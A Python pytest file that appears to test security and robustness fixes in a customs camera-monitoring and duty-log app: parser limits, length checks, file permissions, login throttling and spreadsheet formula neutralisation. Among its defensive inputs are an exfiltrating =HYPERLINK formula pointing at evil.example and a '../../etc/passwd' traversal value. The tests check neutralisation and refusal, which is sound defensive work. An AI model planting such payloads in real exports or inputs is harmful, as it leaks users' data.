"""Issue 11 item 5, "smaller holes found on the way": what a broken or hostile input,
argument or file on disk used to do (crash, lose data, open a hole), each shown
here as it should be handled instead: a clear message naming file and line, nothing
written, nothing crashed."""

from __future__ import annotations

import csv
import io
import os
import stat
import textwrap
from datetime import timedelta
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import func, select

from app.cameras import checklists, map_import, registry
from app.cameras.map_model import CameraMapData, WatchPosition
from app.cameras.registry import seed_demo_cameras
from app.db.models import Camera
from app.errors import AuthenticationFailed, ImportFileError, ValidationError
from app.org import parse_units_csv, parse_yaml
from app.workflow.daily_reports import ReportPlan

BIG = "x" * (200 * 1024)          # over the csv module's 128 KiB field limit
DEEP = 5000                       # far beyond Python's recursion limit


def _file(tmp_path: Path, name: str, content: str) -> Path:
    path = tmp_path / name
    path.write_text(textwrap.dedent(content).lstrip("\n"), encoding="utf-8")
    return path


def _problems(exc: pytest.ExceptionInfo[ImportFileError]) -> list[tuple[str, int | str]]:
    return [(f, ln) for f, ln, _msg in exc.value.problems]


# -- a CSV cell over 128 KiB: csv.Error ----------------------------------------------------
def test_a_huge_csv_cell_is_a_problem_at_its_line(tmp_path):
    units = _file(tmp_path, "units.csv", f"code,name,kind\nA,Đơn vị A,hq\nB,\"{BIG}\",team\n")
    with pytest.raises(ImportFileError) as err:
        parse_units_csv(units)
    assert _problems(err) == [("units.csv", 3)]
    assert "131072" in err.value.message()

    cams = _file(tmp_path, "cameras.csv",
                 "code,name,site,area_type,unit,kind,main_url\n"
                 f"C1,\"{BIG}\",Cảng,seaport,KV3,fixed,rtsp://h/c1\n")
    with pytest.raises(ImportFileError) as err:
        registry.parse_csv(cams)
    assert _problems(err) == [("cameras.csv", 2)]

    # an unclosed quotation mark swallows the rest of the file: the line it opens on
    raw = ("record,camera,position,name\nposition,C1,P1,Cổng\n"
           f"position,C1,P2,\"Cổng {BIG}\n").encode()
    with pytest.raises(ImportFileError) as err:
        map_import.parse_csv_bytes(raw, "map.csv")
    assert _problems(err) == [("map.csv", 3)]


# -- deep nesting: RecursionError ------------------------------------------------------------
def test_deeply_nested_yaml_is_a_problem_at_its_line(tmp_path):
    deep = "[" * DEEP + "]" * DEEP
    site = _file(tmp_path, "site.yaml", f"units: []\ndesks: {deep}\n")
    with pytest.raises(ImportFileError) as err:
        parse_yaml(site)
    assert _problems(err) == [("site.yaml", 2)]
    assert "nested" in err.value.message()

    plan = _file(tmp_path, "daily_reports.yaml", f"reports:\n  - {deep}\n")
    with pytest.raises(ImportFileError) as err:
        ReportPlan.load(plan)
    assert _problems(err) == [("daily_reports.yaml", 2)]

    with pytest.raises(ImportFileError) as err:
        checklists.parse_reference(f"version: 1\nchecklists: {deep}\n", "checklists.yaml")
    assert _problems(err) == [("checklists.yaml", 2)]


def test_deeply_nested_json_is_a_problem_at_its_line(tmp_path):
    deep = "[" * DEEP + "]" * DEEP
    cams = _file(tmp_path, "cameras.json", f'{{"cameras":\n  {deep}}}\n')
    with pytest.raises(ImportFileError) as err:
        registry.parse_json(cams)
    assert _problems(err) == [("cameras.json", 2)]
    assert "nested" in err.value.message()

    raw = ('{"version": 1, "cameras": [\n  {"camera": "C1", "positions": ' + deep
           + "}]}\n").encode()
    with pytest.raises(ImportFileError) as err:
        map_import.parse_json_bytes(raw, "map.json")
    assert _problems(err) == [("map.json", 2)]


def test_ordinary_nesting_and_brackets_in_strings_still_load():
    from app.parsing import load_json, load_yaml  # noqa: PLC0415

    assert load_json('{"a": "[[[[{{{{\\"]]"}')["a"] == '[[[[{{{{"]]'
    nested = "k: " + "[" * 90 + "1" + "]" * 90
    assert load_yaml(nested)["k"] is not None


# -- a site file of the wrong shape: TypeError ----------------------------------------------
@pytest.mark.parametrize("content,line", [
    ("units: 5\n", 1),
    ("units: []\ndesks: 5\n", 2),
    ("units: []\nusers: yes\n", 2),
    ("units: []\nholidays: 2026\n", 2),
    ("units:\n  - {code: A, name: A, kind: hq, children: 5}\n", 2),
])
def test_a_site_file_of_the_wrong_shape_names_the_line(tmp_path, content, line):
    with pytest.raises(ImportFileError) as err:
        parse_yaml(_file(tmp_path, "site.yaml", content))
    assert ("site.yaml", line) in _problems(err)
    assert "must be a list" in err.value.message()


@pytest.mark.parametrize("content,line", [
    ("reports: 5\n", 1),
    ("reports: []\nexpected: 5\n", 2),
    ("reports:\n  - {code: r, name: R}\nexpected:\n  - {desk: HQ, unit: A, reports: 5}\n", 4),
])
def test_a_report_plan_of_the_wrong_shape_names_the_line(tmp_path, content, line):
    with pytest.raises(ImportFileError) as err:
        ReportPlan.load(_file(tmp_path, "daily_reports.yaml", content))
    assert ("daily_reports.yaml", line) in _problems(err)
    assert "must be a list" in err.value.message()


# -- a value longer than its column: a raw DataError on PostgreSQL, kept whole on SQLite ----
CAMERA_HEADER = "code,name,site,area_type,unit,kind,main_url\n"


def _camera_count(ctx) -> int:
    with ctx.db.read() as s:
        return s.scalar(select(func.count()).select_from(Camera))


def test_a_camera_code_over_40_characters_is_refused_at_its_line(ctx, users, tmp_path):
    code = "C" * 41
    path = _file(tmp_path, "cameras.csv", CAMERA_HEADER
                 + "OK-1,Cổng A,Cảng Đình Vũ,seaport,KV3-DV,fixed,rtsp://10.3.1.21/main\n"
                 + f"{code},Cổng B,Cảng Đình Vũ,seaport,KV3-DV,fixed,rtsp://10.3.1.22/main\n")
    before = _camera_count(ctx)
    with pytest.raises(ImportFileError) as err:
        ctx.cameras.import_file(users["admin"], path)
    assert _problems(err) == [("cameras.csv", 3)]
    assert "code" in err.value.message() and "40" in err.value.message()
    assert _camera_count(ctx) == before   # nothing written, not even the good line


def test_a_camera_name_too_long_for_its_column_is_refused_in_the_editor(ctx, users):
    seed_demo_cameras(ctx)
    cam = ctx.cameras.camera("DV-CAM-01")
    with pytest.raises(ValidationError) as err:
        ctx.cameras.update_camera(users["admin"], cam.id, cam.version, name="N" * 201)
    assert "200" in err.value.message()
    assert ctx.cameras.camera("DV-CAM-01").name == cam.name


@pytest.mark.parametrize("line,field", [
    ("units:\n  - {code: %s, name: A, kind: hq}\n" % ("U" * 41), "code"),
    ("units:\n  - {code: A, name: A, kind: hq, phone: '%s'}\n" % ("9" * 61), "phone"),
    ("units:\n  - {code: A, name: A, kind: hq}\ndesks:\n  - {code: D, name: '%s', kind: hq, "
     "unit: A}\n" % ("D" * 301), "name"),
    ("units:\n  - {code: A, name: A, kind: hq}\nusers:\n  - {username: '%s', full_name: X, "
     "roles: [officer], password: mat-khau-dai-du}\n" % ("u" * 81), "username"),
])
def test_reference_data_too_long_for_its_column_is_refused(tmp_path, line, field):
    with pytest.raises(ImportFileError) as err:
        parse_yaml(_file(tmp_path, "site.yaml", line))
    assert field in err.value.message() and "longer than" in err.value.message()


def test_a_unit_edit_too_long_for_its_column_is_refused(ctx, users):
    unit = next(u for u in ctx.reference.units() if u.code == "KV3-DV")
    with pytest.raises(ValidationError):
        ctx.reference.update_unit(users["admin"], unit.id, unit.version, phone="9" * 61)


def test_an_account_name_too_long_for_its_column_is_refused(ctx, users):
    with pytest.raises(ValidationError) as err:
        ctx.accounts.create_user(users["admin"], "u" * 81, "Người mới", "mat-khau-du-dai",
                                 ["officer"])
    assert "username" in err.value.message() and "80" in err.value.message()


# -- formula text exported as given ----------------------------------------------------------
FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "+1+1", "-2+3",
            "@SUM(A1:A9)")


def _formula_map() -> CameraMapData:
    positions = tuple(WatchPosition("DV-CAM-04", f"P{i}", text, scanner=text)
                      for i, text in enumerate(FORMULAS, start=1))
    return CameraMapData(positions, ())


def test_formulas_are_neutralised_in_the_csv_export_and_read_back_as_given():
    raw = map_import.export_csv(_formula_map())
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8"))))
    for row in rows:
        for key in ("name", "scanner"):
            assert row[key].startswith("'") and row[key][1:] in FORMULAS
    back = map_import.validate(map_import.parse_csv_bytes(raw, "export.csv"),
                               {"DV-CAM-04": "fixed"})
    assert [(p.name, p.scanner) for p in back.positions] == [(f, f) for f in FORMULAS]


def test_formulas_are_text_cells_in_the_xlsx_export_and_read_back_as_given():
    raw = map_import.export_xlsx(_formula_map())
    book = openpyxl.load_workbook(io.BytesIO(raw))
    ws = book["positions"]
    header = [c.value for c in ws[1]]
    for row in ws.iter_rows(min_row=2):
        for key in ("name", "scanner"):
            cell = row[header.index(key)]
            assert cell.data_type == "s" and cell.value in FORMULAS  # text, not a formula
            assert cell.quotePrefix                                  # Excel shows it as text
    back = map_import.validate(map_import.parse_xlsx_bytes(raw, "export.xlsx"),
                               {"DV-CAM-04": "fixed"})
    assert [(p.name, p.scanner) for p in back.positions] == [(f, f) for f in FORMULAS]


# -- the command line -----------------------------------------------------------------------
@pytest.mark.parametrize("argv", [
    ["--print-log", "", "--pdf", "out.pdf"],     # started the GUI
    ["--db", "", "--verify-log"],                # fell back to the local SQLite file
    ["--db", "  ", "--verify-log"],
    ["--demo", "--print-log", "current", "--pdf", ""],
    ["--demo", "--print", "log", "", "--pdf", "out.pdf"],
    ["--desk", "", "--verify-log"],
    ["--screenshot", ""],
])
def test_an_empty_argument_is_a_usage_error(argv, capsys):
    import main as entry  # noqa: PLC0415

    with pytest.raises(SystemExit) as exit_:
        entry.parse_args(argv)
    assert exit_.value.code == 2
    assert "empty" in capsys.readouterr().err


def test_a_crash_has_its_own_exit_code_and_a_clear_message(monkeypatch, capsys):
    import main as entry  # noqa: PLC0415
    from app import cli  # noqa: PLC0415

    def broken(*_args: object) -> int:
        raise RuntimeError("something nobody expected")

    monkeypatch.setattr(cli, "run_batch", broken)
    code = entry.main(["--verify-log"])
    assert code == cli.EXIT_CRASH and code not in (0, 1, 2, 3)  # 1 is "the log is broken"
    err = capsys.readouterr().err
    assert "unexpected error" in err and "something nobody expected" in err
    assert "client.log" in err                                  # where the details are


def test_the_help_lists_the_exit_codes(capsys):
    import main as entry  # noqa: PLC0415

    with pytest.raises(SystemExit):
        entry.parse_args(["--help"])
    out = " ".join(capsys.readouterr().out.split())
    for text in ("0 success", "1 the duty log is broken", "2 bad arguments",
                 "3 the database cannot be reached", "4 an unexpected error"):
        assert text in out


# -- settings -------------------------------------------------------------------------------
@pytest.mark.parametrize("content,names", [
    ({"drift_thresholds": "x"}, "drift_thresholds"),
    ({"drift_thresholds": {"max_shift_pct": "x"}}, "drift_thresholds"),
    ({"drift_thresholds": {"max_shift_pct": True}}, "drift_thresholds"),
    ({"drift_thresholds": [1, 2]}, "drift_thresholds"),
    ({"timezone": "Mars/Olympus_Mons"}, "Mars/Olympus_Mons"),
    ({"timezone": "../../etc/passwd"}, "../../etc/passwd"),
    ({"timezone": ""}, "timezone"),
])
def test_settings_refuse_bad_thresholds_and_unknown_time_zones(tmp_path, monkeypatch, capsys,
                                                               content, names):
    import json  # noqa: PLC0415

    import main as entry  # noqa: PLC0415
    from app.errors import SettingsError  # noqa: PLC0415
    from app.settings import load  # noqa: PLC0415

    path = tmp_path / "settings.json"
    path.write_text(json.dumps(content), encoding="utf-8")
    with pytest.raises(SettingsError) as err:
        load(path)
    assert names in err.value.message()
    monkeypatch.setenv("CUSTOMS_CONFIG_DIR", str(tmp_path))
    assert entry.main(["--verify-log"]) == 2
    assert "invalid settings" in capsys.readouterr().err


def test_settings_keep_good_thresholds_and_time_zones(tmp_path):
    from app.settings import Settings, load, save  # noqa: PLC0415

    path = tmp_path / "settings.json"
    save(Settings(timezone="Asia/Bangkok", drift_thresholds={"max_shift_pct": 6.5,
                                                            "min_features": 30}), path)
    loaded = load(path, apply_env=False)
    assert loaded.timezone == "Asia/Bangkok"
    assert loaded.drift_thresholds == {"max_shift_pct": 6.5, "min_features": 30}


# -- files with secrets ---------------------------------------------------------------------
posix_only = pytest.mark.skipif(os.name != "posix", reason="POSIX file modes")


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@posix_only
def test_the_outbox_is_readable_by_its_owner_only(tmp_path, clock):
    from app.db.outbox import Outbox  # noqa: PLC0415

    old = os.umask(0o022)                         # the usual: new files world-readable
    try:
        box = Outbox(tmp_path / "new" / "outbox.sqlite", clock)
        box.count_pending()
        box.close()
        assert _mode(tmp_path / "new" / "outbox.sqlite") == 0o600
        # an outbox left world-readable by an older client is closed up on opening
        (tmp_path / "old").mkdir()
        legacy = tmp_path / "old" / "outbox.sqlite"
        legacy.write_bytes(b"")
        legacy.chmod(0o644)
        Outbox(legacy, clock).close()
        assert _mode(legacy) == 0o600
    finally:
        os.umask(old)


@posix_only
def test_a_site_key_file_others_can_read_is_refused(tmp_path, monkeypatch, caplog):
    from cryptography.fernet import Fernet  # noqa: PLC0415

    from app.cameras.registry import KEY_FILE, SiteKey  # noqa: PLC0415

    monkeypatch.delenv("CUSTOMS_SITE_KEY", raising=False)
    key = tmp_path / KEY_FILE
    key.write_bytes(Fernet.generate_key() + b"\n")
    key.chmod(0o644)
    with pytest.raises(ValidationError) as err:
        SiteKey.load(tmp_path)
    message = err.value.message()
    assert str(key) in message and "chmod 600" in message
    assert any("site.key" in r.getMessage() for r in caplog.records if r.levelname == "ERROR")
    key.chmod(0o600)
    assert SiteKey.load(tmp_path) is not None      # once private, it is used
    fresh = tmp_path / "fresh"
    SiteKey.load(fresh)
    assert _mode(fresh / KEY_FILE) == 0o600


# -- log-ins ----------------------------------------------------------------------------------
def _fails(ctx, username: str, times: int, clock) -> None:
    """`times` wrong passwords, each once the throttle lets it through."""
    from app.auth import LoginThrottle  # noqa: PLC0415

    for _ in range(times):
        clock.advance(LoginThrottle.MAX_DELAY)
        with pytest.raises(AuthenticationFailed) as err:
            ctx.accounts.authenticate(username, "sai-mat-khau")
        assert err.value.message() == "Wrong user name or password."


def test_failed_log_ins_slow_down_per_user_name(ctx, clock):
    for _ in range(3):                        # typos cost nothing
        with pytest.raises(AuthenticationFailed):
            ctx.accounts.authenticate("giamsat1", "sai")
    # the fourth attempt right away is not even checked, the right password neither
    with pytest.raises(AuthenticationFailed) as err:
        ctx.accounts.authenticate("giamsat1", "demo123")
    assert "wait 1 s" in err.value.message()
    assert ctx.accounts.authenticate("giamsat2", "demo123")   # other names unaffected
    clock.advance(timedelta(seconds=1))
    with pytest.raises(AuthenticationFailed):
        ctx.accounts.authenticate("giamsat1", "sai")          # fourth failure: 2 s next
    clock.advance(timedelta(seconds=1))
    with pytest.raises(AuthenticationFailed) as err:
        ctx.accounts.authenticate("giamsat1", "demo123")
    assert "wait 1 s" in err.value.message()
    clock.advance(timedelta(seconds=1))
    assert ctx.accounts.authenticate("giamsat1", "demo123")   # a success forgets them
    with pytest.raises(AuthenticationFailed) as err:
        ctx.accounts.authenticate("giamsat1", "sai")
    assert err.value.message() == "Wrong user name or password."


def test_ten_failures_lock_the_user_name_for_a_quarter_hour(ctx, clock):
    from app.auth import LoginThrottle  # noqa: PLC0415

    _fails(ctx, "giamsat1", LoginThrottle.LOCK_AFTER, clock)
    clock.advance(LoginThrottle.MAX_DELAY)
    with pytest.raises(AuthenticationFailed) as err:
        ctx.accounts.authenticate("giamsat1", "demo123")
    assert "locked after 10 failed attempts" in err.value.message()
    # an unknown name is treated alike: the answer does not tell which names exist
    _fails(ctx, "khong-co-ai", LoginThrottle.LOCK_AFTER, clock)
    with pytest.raises(AuthenticationFailed) as err:
        ctx.accounts.authenticate("khong-co-ai", "demo123")
    assert "locked" in err.value.message()
    # nor does the offline cache get round it (the same throttle)
    with pytest.raises(AuthenticationFailed) as err:
        ctx.cache.authenticate("giamsat1", "demo123")
    assert "locked" in err.value.message()
    clock.advance(LoginThrottle.LOCK_FOR)
    assert ctx.accounts.authenticate("giamsat1", "demo123")


# -- new passwords --------------------------------------------------------------------------
def test_a_new_password_needs_ten_characters(ctx, users):
    with pytest.raises(ValidationError) as err:
        ctx.accounts.create_user(users["admin"], "moi9", "Người Mới", "123456789", ["officer"])
    assert "10 characters" in err.value.message()
    with pytest.raises(ValidationError):
        ctx.accounts.set_password(users["giamsat1"], users["giamsat1"].id, "mat-khau9")
    assert ctx.accounts.authenticate("giamsat1", "demo123")     # existing ones keep theirs
    assert ctx.accounts.create_user(users["admin"], "moi10", "Người Mới", "1234567890",
                                    ["officer"])


def test_a_site_file_imported_by_the_admin_sets_new_passwords_of_ten(ctx, users, tmp_path):
    site = _file(tmp_path, "site.yaml", """
        units:
          - {code: CNTT, name: Cục CNTT, kind: hq_department}
        users:
          - {username: giamsat1, full_name: Đỗ Quang Huy, roles: [officer], password: demo123}
          - {username: moi-ngan, full_name: Người Mới, roles: [officer], password: ngan123}
        """)
    with pytest.raises(ImportFileError) as err:
        ctx.reference.import_site(users["admin"], parse_yaml(site))
    assert _problems(err) == [("site.yaml", 5)]      # the new account, not giamsat1
    assert "10 characters" in err.value.message()
    assert "moi-ngan" not in {u.username for u in ctx.reference.users()}


# -- the outbox's order ---------------------------------------------------------------------
def _entry(i: int):
    from app.dutylog import EntryDraft  # noqa: PLC0415

    return EntryDraft(kind="work", content=f"Kiểm tra camera khu vực {i}", scope="Cảng Đình Vũ")


def _cut(monkeypatch, ctx) -> list[bool]:
    """The shared database away while the returned flag is set."""
    from app.errors import DatabaseUnavailable  # noqa: PLC0415

    down = [True]
    real = ctx.dutylog.append

    def append(*args: object, **kwargs: object):
        if down[0]:
            raise DatabaseUnavailable("mất kết nối (giả lập)")
        return real(*args, **kwargs)

    monkeypatch.setattr(ctx.dutylog, "append", append)
    return down


def test_a_submit_while_entries_wait_goes_behind_them(ctx, users, desk, monkeypatch):
    down = _cut(monkeypatch, ctx)
    officer = users["giamsat1"]
    queued = [ctx.writer.submit(officer, desk.id, _entry(i)).client_id for i in (1, 2)]
    assert ctx.outbox.count_pending() == 2
    down[0] = False                                  # back, but nobody replayed yet
    outcome = ctx.writer.submit(officer, desk.id, _entry(3))
    assert outcome.entry is not None                 # written, and after the two
    order = [e.client_id for e in ctx.dutylog.entries(desk.id)]
    assert order[-3:] == [*queued, outcome.client_id]
    assert ctx.outbox.count_pending() == 0
    assert ctx.dutylog.verify(desk.id).ok


def test_a_submit_while_entries_wait_and_the_database_is_away_queues_in_order(
        ctx, users, desk, monkeypatch):
    down = _cut(monkeypatch, ctx)
    officer = users["giamsat1"]
    first = ctx.writer.submit(officer, desk.id, _entry(1)).client_id
    # the database answers again for this one only: it must still not jump the queue
    calls = []
    real = ctx.dutylog.append

    def flaky(user, desk_id, draft):
        calls.append(draft.client_id)
        if len(calls) == 1 and draft.client_id != first:
            down[0] = False
        return real(user, desk_id, draft)

    monkeypatch.setattr(ctx.dutylog, "append", flaky)
    second = ctx.writer.submit(officer, desk.id, _entry(2))
    assert second.entry is None and second.error      # waits behind the first
    down[0] = False
    assert ctx.writer.replay() == (2, 0)
    order = [e.client_id for e in ctx.dutylog.entries(desk.id)]
    assert order[-2:] == [first, second.client_id]
